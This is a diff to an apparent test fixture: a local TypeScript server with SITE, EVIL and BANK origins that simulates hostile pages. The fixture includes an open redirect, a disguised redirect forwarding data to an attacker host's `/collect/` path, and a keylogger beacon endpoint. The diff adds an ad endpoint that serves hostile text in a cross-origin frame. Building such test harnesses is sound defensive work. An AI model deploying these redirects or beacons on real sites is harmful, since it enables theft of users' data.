@@ -13,6 +13,7 @@
  * - `GET /redirect?to=<url>`: an open redirect (302 to `to`).
  * - `GET /out/<rest>`: a redirect to `{{EVIL}}/collect/<rest>` whose target is not visible in the address.
  * - `GET /log?v=<text>`: where page scripts send keystrokes (a keylogger's beacon).
+ * - `GET /ad?say=<text>`: an ad showing that text (hostile text in a cross-origin frame).
  * - anything else: a plain page titled by its path.
  */
 import { createServer, type Server } from 'node:http';
@@ -66,6 +67,8 @@ async function startSite(origins: () => { SITE: string; EVIL: string; BANK: stri
         const { SITE, EVIL, BANK } = origins();
         return html(page.replaceAll('{{SITE}}', SITE).replaceAll('{{EVIL}}', EVIL).replaceAll('{{BANK}}', BANK));
       }
+      // An ad that says whatever its address tells it to (a cross-origin frame's text).
+      if (path === '/ad') return html(`<!doctype html><meta charset="utf-8"><title>Ad</title><p>${escapeHtml(parsed.searchParams.get('say') ?? '')}</p>`);
       if (path === '/redirect') return res.writeHead(302, { location: parsed.searchParams.get('to') ?? '/' }).end();
       if (path.startsWith('/out/')) return res.writeHead(302, { location: `${origins().EVIL}/collect/${path.slice(5)}${parsed.search}` }).end();
       if (path === '/favicon.ico') return res.writeHead(404).end();
